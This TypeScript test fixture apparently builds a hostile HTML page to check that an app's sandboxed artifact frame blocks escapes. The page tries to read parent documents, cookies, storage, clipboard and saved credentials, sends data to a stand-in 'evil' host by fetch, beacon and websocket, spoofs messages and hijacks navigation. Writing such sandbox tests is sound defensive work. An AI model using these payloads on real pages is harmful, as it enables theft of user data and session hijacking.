/** What a hostile artifact says to the page around it of each thing that it tried. */
export interface Told {
  readonly what: string;
  readonly got: string;
}

/** What a hostile artifact tries: each line says what it got, or that it failed. At last it goes to `leaveTo` by itself. */
export const hostilePage = (evil: string, own: string, leaveTo = `${evil}/self`): string => `<!doctype html>
<link rel="prefetch" href="${evil}/prefetch"><link rel="stylesheet" href="${evil}/style"><img src="${evil}/image">
<link rel="preconnect" href="${evil}"><link rel="dns-prefetch" href="${evil}"><link rel="modulepreload" href="${evil}/preload">
<style>body { background: url(${evil}/background) } @import "${evil}/import"; @font-face { font-family: x; src: url(${evil}/font) }</style>
<p style="font-family: x">text</p><iframe src="${evil}/frame"></iframe><object data="${evil}/object"></object><video src="${evil}/video"></video>
<iframe srcdoc="<img src='${evil}/srcdoc'>"></iframe><embed src="${evil}/embed"><audio src="${evil}/audio" autoplay></audio>
<form id="form" action="${evil}/form" method="post"><input name="a"></form>
<form id="blank" action="${evil}/form-blank" target="_blank"></form><form id="upper" action="${evil}/form-top" target="_top"></form>
<a id="popup" href="${evil}/link" target="_blank">x</a><a id="up" href="${evil}/link-top" target="_top">x</a>
<a id="file" href="data:text/plain,x" download="x.txt">x</a><a id="ping" href="#x" ping="${evil}/ping">x</a>
<script src="${evil}/script"></script>
<svg><script>parent.postMessage({ what: "svg", got: "ran" }, "*")</script></svg>
<script>
const tell = (what, got) => parent.postMessage({ what, got: String(got) }, "*");
const tries = {
  parent: () => parent.document.body.textContent,
  top: () => top.document.body.textContent,
  frames: () => [...parent.frames].map((frame) => frame.document.body.textContent).join(),
  element: () => frameElement.ownerDocument.body.textContent,
  cookie: () => document.cookie,
  setCookie: () => { document.cookie = "natter=spoofed"; return document.cookie; },
  storage: () => localStorage.getItem("key"),
  session: () => sessionStorage.length,
  database: () => indexedDB.open("x").readyState,
  caches: () => caches.keys().then(String),
  channel: () => { new BroadcastChannel("natter.drafts").postMessage({ key: "new", draft: { text: "spoofed", pastes: [], changedAt: 9e15 } }); return "tried"; },
  fetch: () => fetch("${evil}/fetch").then((answer) => answer.text()),
  api: () => fetch("${own}/v1/me?by=artifact", { credentials: "include" }).then((answer) => answer.text()),
  image: () => new Promise((done, fail) => { const image = new Image(); image.onload = () => done("loaded"); image.onerror = () => fail("refused"); image.src = "${own}/favicon.svg?by=artifact"; }),
  socket: () => new Promise((done, fail) => { const s = new WebSocket("${evil.replace("http", "ws")}/socket"); s.onopen = () => done("opened"); s.onerror = () => fail("refused"); }),
  events: () => new Promise((done, fail) => { const s = new EventSource("${evil}/events"); s.onopen = () => done("opened"); s.onerror = () => fail("refused"); }),
  beacon: () => navigator.sendBeacon("${evil}/beacon", "x") && "sent",
  worker: () => new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('${evil}/worker')"]))); w.onerror = () => fail("refused"); setTimeout(() => done("unknown"), 200); }),
  service: () => navigator.serviceWorker.register("${own}/sw.js?by=artifact").then(() => "registered"),
  popup: () => window.open("${evil}/popup").closed,
  popupHere: () => window.open("${own}/?by=artifact").closed,
  link: () => { popup.click(); return "tried"; },
  linkTop: () => { up.click(); return "tried"; },
  download: () => { file.click(); return "tried"; },
  ping: () => { ping.click(); return "tried"; },
  navigateTop: () => { top.location = "${evil}/top"; return "tried"; },
  form: () => { form.submit(); return "tried"; },
  formBlank: () => { blank.submit(); return "tried"; },
  formTop: () => { upper.submit(); return "tried"; },
  dialog: () => { const box = alert("x"); return "tried"; },
  print: () => { print(); return "tried"; },
  fullscreen: () => document.documentElement.requestFullscreen().then(() => "covered"),
  clipboard: () => navigator.clipboard.readText(),
  credentials: () => navigator.credentials.get({ password: true }).then(String),
  import: () => import("${evil}/module"),
  history: () => { history.pushState({}, "", "/spoofed"); return "tried"; },
  spoof: () => {
    for (const message of [{ type: "natter-artifact-frame" }, { type: "natter-artifact", html: "spoofed" }, { type: "natter-artifact-frame", url: "${evil}" }, "close", { key: "natter.preferences", newValue: "{}" }, null, 7])
      for (const target of [parent, top]) target.postMessage(message, "*");
    return "tried";
  },
};
(async () => {
  for (const [what, attempt] of Object.entries(tries)) {
    try { tell(what, await attempt()); } catch (error) { tell(what, "failed"); }
  }
  tell("end", "");
  document.head.insertAdjacentHTML("beforeend", '<meta http-equiv="refresh" content="0;url=${leaveTo}">');
  location = "${leaveTo}";
})();
</script>`;
